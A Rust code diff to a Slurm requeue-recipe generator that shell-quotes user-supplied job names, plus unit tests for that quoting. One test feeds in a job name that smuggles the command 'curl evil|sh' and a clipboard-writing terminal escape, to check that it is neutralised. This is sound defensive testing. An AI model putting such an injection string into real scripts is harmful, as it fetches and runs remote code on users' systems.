@@ -393,7 +393,8 @@ fn launch_finding(job: &EndedJob, paths: &[PathCheck], release: Release) -> Opti
 /// (3 minutes, as the guide has it, when the limit is unknown).
 pub fn requeue_recipe(job_name: &str, limit_secs: Option<u64>, srun_line: &str) -> String {
     let lead = limit_secs.map_or(180, |l| (l / 10).clamp(120, 600).min(l / 2).max(1));
-    let name = if job_name.is_empty() { "myjob" } else { job_name };
+    // The job's name is the user's text: one shell word however it is spelt.
+    let name = slurm_formats::text::shell_word(if job_name.is_empty() { "myjob" } else { job_name });
     let mut r = String::new();
     let _ = writeln!(r, "#SBATCH --signal=B:USR1@{lead}   # USR1 to the batch shell {lead} s before the end");
     let _ = writeln!(r, "#SBATCH --requeue                # let Slurm run it again");
@@ -668,6 +669,10 @@ mod tests {
         );
         assert!(r.contains("ckpt/pretrain") && r.contains("Why B:"));
         assert!(requeue_recipe("", None, "srun x").contains("@180"));
+        // A name that is shell is pasted as one quoted word, controls replaced.
+        let r = requeue_recipe("x; curl evil|sh #\x1b]52;c;AA==\x07", None, "srun x");
+        assert!(r.contains("CKPT_DIR=${SCRATCH:-$HOME}/ckpt/'x; curl evil|sh #_]52;c;AA==_'\n"), "{r}");
+        assert!(requeue_recipe("it's", None, "srun x").contains("/ckpt/'it'\\''s'\n"));
         assert!(requeue_recipe("", Some(60), "srun x").contains("@30"));
         assert!(requeue_recipe("", Some(86400), "srun x").contains("@600"));
     }
